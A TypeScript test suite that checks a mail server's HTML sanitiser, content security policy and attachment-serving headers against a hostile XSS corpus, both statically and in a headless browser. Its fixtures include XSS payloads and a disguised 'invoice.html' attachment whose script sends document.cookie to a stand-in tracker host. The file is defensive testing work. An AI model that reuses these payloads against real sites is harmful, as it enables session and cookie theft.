import { after, before, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { parseDocument, DomUtils } from 'htmlparser2';
import type { Browser, Page } from 'playwright-core';
import { messageHtmlCsp, REMOTE_IMAGE_ATTR, sanitizeMessageHtmlDetailed } from '../../admin-api/html/sanitize.js';
import { launchBrowser } from '../web/harness.js';
import { XSS_VECTORS } from './xss-corpus.js';

const TRACKER = 'tracker.invalid';
const corpus = XSS_VECTORS.map((v) => v.replaceAll('{T}', TRACKER));
const FORBIDDEN_TAGS = /^(script|style|svg|math|iframe|frame|object|embed|form|input|button|textarea|select|meta|base|link|template|noscript|xmp|video|audio|source|marquee|body|title)$/i;
const SAFE_URL = /^(https?:|mailto:|cid:|data:image\/(png|gif|jpe?g|webp);base64,|#)/i;

/** Static reading of the output with htmlparser2: what a second parse finds. */
function problems(html: string): string[] {
  const out: string[] = [];
  const doc = parseDocument(html);
  for (const el of DomUtils.findAll(() => true, doc.children)) {
    if (FORBIDDEN_TAGS.test(el.name)) out.push(`tag ${el.name}`);
    for (const [name, value] of Object.entries(el.attribs)) {
      if (/^on/i.test(name)) out.push(`handler ${name}`);
      if (['href', 'src', 'action', 'background', 'xlink:href', 'srcset', 'formaction'].includes(name.toLowerCase()) && !SAFE_URL.test(value.trim())) out.push(`url ${name}=${value}`);
      if (name === 'src' && value.includes(TRACKER)) out.push('remote image not blocked');
      if (name === 'style' && /url|expression|javascript|behavior|binding|\\|position/i.test(value)) out.push(`style ${value}`);
    }
  }
  return out;
}

describe('HTML mail sanitiser (sanitize-html) against a hostile corpus', () => {
  test('no vector leaves a script, handler, unsafe URL, remote load or dangerous style; output is stable', () => {
    for (const v of corpus) {
      const { html } = sanitizeMessageHtmlDetailed(v);
      assert.deepEqual(problems(html), [], `vector ${v}\n -> ${html}`);
      assert.equal(sanitizeMessageHtmlDetailed(html).html, html, `sanitising twice changes nothing (mutation check): ${v}`);
    }
  });

  test('remote images are held back for "show images"; allowed on request; safe content survives', () => {
    const blocked = sanitizeMessageHtmlDetailed(`<p>Hi <b>there</b></p><img src="https://${TRACKER}/p.gif" alt="logo"><a href="https://ok.example/">link</a>`);
    assert.equal(blocked.remoteImages, 1);
    assert.match(blocked.html, new RegExp(`<img [^>]*${REMOTE_IMAGE_ATTR}="https://${TRACKER}/p.gif"`));
    assert.doesNotMatch(blocked.html, / src=/);
    assert.match(blocked.html, /<p>Hi <b>there<\/b><\/p>/);
    for (const a of ['href="https://ok.example/"', 'target="_blank"', 'rel="noopener noreferrer nofollow"']) assert.ok(blocked.html.includes(a), a);
    const allowed = sanitizeMessageHtmlDetailed(`<img src="https://${TRACKER}/p.gif">`, { remoteImages: 'allow' });
    assert.match(allowed.html, /<img src="https:\/\/tracker.invalid\/p.gif" \/>/);
    assert.match(sanitizeMessageHtmlDetailed('<div style="color:red;background:url(x)">t</div>').html, /style="color:red"/);
    // Bounded work on absurd input (nothing worse than linear).
    // Deep nesting is cut (the parsers are quadratic in depth); flat markup is kept whole.
    const deep = sanitizeMessageHtmlDetailed('<div>'.repeat(200_000) + 'x').html;
    assert.ok(deep.split('<div>').length - 1 <= 600);
    assert.equal(sanitizeMessageHtmlDetailed('<p>x</p>'.repeat(5000)).html.split('<p>').length - 1, 5000);
  });
});

describe('the sanitised corpus in Chromium', () => {
  let browser: Browser;
  let page: Page;
  const requests: string[] = [];
  before(async () => {
    browser = await launchBrowser();
    page = await browser.newPage();
    await page.route('**/*', async (route) => {
      const url = route.request().url();
      if (url.startsWith('http://heron.invalid/')) return route.fulfill({ status: 200, contentType: 'text/html', body: '<!doctype html><title>t</title><body></body>' });
      requests.push(url);
      return route.abort();
    });
    await page.goto('http://heron.invalid/');
    // Plain JavaScript strings: the TypeScript loader's helpers do not exist inside the page.
    // (eval is left alone: Playwright evaluates through it.)
    await page.evaluate(`window.__hits = 0; for (const f of ['alert', 'confirm', 'prompt', 'print']) window[f] = () => { window.__hits++; };
      window.__check = async (list) => {
        const bad = [];
        for (const html of list) {
          const host = document.createElement('div');
          document.body.appendChild(host);
          host.innerHTML = html;
          for (const el of host.querySelectorAll('*')) {
            for (const a of el.attributes) {
              if (/^on/i.test(a.name)) bad.push(html + ' :: ' + a.name);
              if (/^\\s*(javascript|vbscript|data:text)/i.test(a.value)) bad.push(html + ' :: ' + a.name + '=' + a.value);
            }
            if (/^(script|iframe|object|embed|svg|math|style|form|base|meta|link)$/i.test(el.localName)) bad.push(html + ' :: <' + el.localName + '>');
          }
          const frame = document.createElement('iframe');
          frame.srcdoc = html;
          document.body.appendChild(frame);
        }
        await new Promise((r) => setTimeout(r, 1500));
        return bad;
      };`);
  });
  after(async () => {
    await browser?.close();
  });

  test('parsed by a real browser (innerHTML and a document of its own): nothing runs, nothing is fetched, no handler appears', async () => {
    const outputs = corpus.map((v) => sanitizeMessageHtmlDetailed(v).html);
    const found = (await page.evaluate(`window.__check(${JSON.stringify(outputs)})`)) as string[];
    assert.deepEqual(found, []);
    assert.equal(await page.evaluate('window.__hits'), 0, 'no dialog or eval ran');
    assert.deepEqual(requests.filter((u) => u.includes(TRACKER)), [], 'no remote load');
  });

  test('the CSP for message HTML stops an inline script even if one slipped through', async () => {
    const csp = messageHtmlCsp(false);
    const doc = `<!doctype html><meta http-equiv="Content-Security-Policy" content="${csp.replace(/; sandbox[^;]*$/, '').replace(/; frame-ancestors[^;]*/, '')}"><script>parent.alert(1)</script><img src="https://${TRACKER}/csp.gif">`;
    await page.evaluate(`(() => { const f = document.createElement('iframe'); f.srcdoc = ${JSON.stringify(doc)}; document.body.appendChild(f); })()`);
    await page.waitForTimeout(800);
    assert.equal(await page.evaluate('window.__hits'), 0);
    assert.deepEqual(requests.filter((u) => u.includes('csp.gif')), []);
    assert.match(csp, /default-src 'none'/);
    assert.match(csp, /sandbox/);
  });
});

describe('the API serves message HTML sanitised, with a restrictive CSP', () => {
  test('GET /v1/messages/:id: no script, remote image held back and counted, CSP and nosniff headers', async () => {
    const { startApi, call } = await import('../admin-api/helpers.js');
    const { prepareMessage } = await import('../../mail/mime/index.js');
    const h = await startApi();
    try {
      const user = await h.store.users.createUser({ username: 'reader', address: 'reader@example.test', password: 'reader-password', verified: true });
      const raw = Buffer.from(
        'From: x@remote.example\r\nTo: reader@example.test\r\nSubject: html\r\nMIME-Version: 1.0\r\nContent-Type: text/html; charset=utf-8\r\n\r\n' +
          `<p onclick="alert(1)">Hello</p><script>alert(2)</script><img src="https://${TRACKER}/open.gif"><a href="javascript:alert(3)">x</a>\r\n`,
      );
      const [stored] = await h.store.mail.deliver(await prepareMessage(raw, h.blobs), [{ userId: user.id, mailbox: { specialUse: '\\Inbox' } }]);
      const token = (await call(h.base, 'POST', '/v1/auth/login', { body: { username: 'reader', password: 'reader-password' } })).body.token;
      const r = await call(h.base, 'GET', `/v1/messages/${stored!.messageId}`, { token });
      assert.equal(r.status, 200);
      assert.match(r.headers.get('content-security-policy') ?? '', /default-src 'none'/);
      assert.equal(r.headers.get('x-content-type-options'), 'nosniff');
      assert.equal(r.body.remoteImages, 1);
      assert.deepEqual(problems(r.body.html), []);
      assert.match(r.body.html, /<p>Hello<\/p>/);
      assert.doesNotMatch(r.body.html, /script|onclick|javascript/i);
    } finally {
      await h.close();
    }
  });

  test('attachment download (curl): the sender\'s text/html and SVG come as attachment, nosniff, and an inert sandbox CSP', async () => {
    const { execFile } = await import('node:child_process');
    const { promisify } = await import('node:util');
    const { startApi, call } = await import('../admin-api/helpers.js');
    const { prepareMessage } = await import('../../mail/mime/index.js');
    const { INERT_RESPONSE_CSP } = await import('../../admin-api/html/sanitize.js');
    const h = await startApi();
    try {
      const user = await h.store.users.createUser({ username: 'dl', address: 'dl@example.test', password: 'dl-password-1', verified: true });
      const part = (type: string, name: string, body: string) =>
        `--b\r\nContent-Type: ${type}\r\nContent-Disposition: attachment; filename="${name}"\r\n\r\n${body}\r\n`;
      const raw = Buffer.from(
        'From: x@remote.example\r\nTo: dl@example.test\r\nSubject: files\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary="b"\r\n\r\n' +
          part('text/plain', 'note.txt', 'see attached') +
          part('text/html', 'invoice.html', `<script>fetch("https://${TRACKER}/?c="+document.cookie)</script>`) +
          part('image/svg+xml', 'logo.svg', '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>') +
          '--b--\r\n',
      );
      const [stored] = await h.store.mail.deliver(await prepareMessage(raw, h.blobs), [{ userId: user.id, mailbox: { specialUse: '\\Inbox' } }]);
      const token = (await call(h.base, 'POST', '/v1/auth/login', { body: { username: 'dl', password: 'dl-password-1' } })).body.token as string;
      const list = (await call(h.base, 'GET', `/v1/messages/${stored!.messageId}`, { token })).body.attachments as Array<{ id: string; contentType: string }>;
      for (const type of ['text/html', 'image/svg+xml']) {
        const a = list.find((x) => x.contentType.startsWith(type))!;
        const { stdout } = await promisify(execFile)('curl', ['-sS', '-i', '-H', `Authorization: Bearer ${token}`, `${h.base}/v1/messages/${stored!.messageId}/attachments/${a.id}`]);
        const [head, body] = stdout.split(/\r\n\r\n/, 2) as [string, string];
        const header = (n: string) => new RegExp(`^${n}: (.*)$`, 'im').exec(head)?.[1]?.trim();
        assert.match(head, /^HTTP\/1\.1 200/);
        assert.match(header('content-type') ?? '', new RegExp(`^${type.replace('+', '\\+')}`));
        assert.match(header('content-disposition') ?? '', /^attachment;/);
        assert.equal(header('x-content-type-options'), 'nosniff');
        assert.equal(header('content-security-policy'), INERT_RESPONSE_CSP);
        assert.match(INERT_RESPONSE_CSP, /(^|; )sandbox($|;)/);
        assert.match(INERT_RESPONSE_CSP, /default-src 'none'/);
        assert.match(body, type === 'text/html' ? /<script>/ : /onload/, 'the file itself is served as sent');
      }
    } finally {
      await h.close();
    }
  });
});
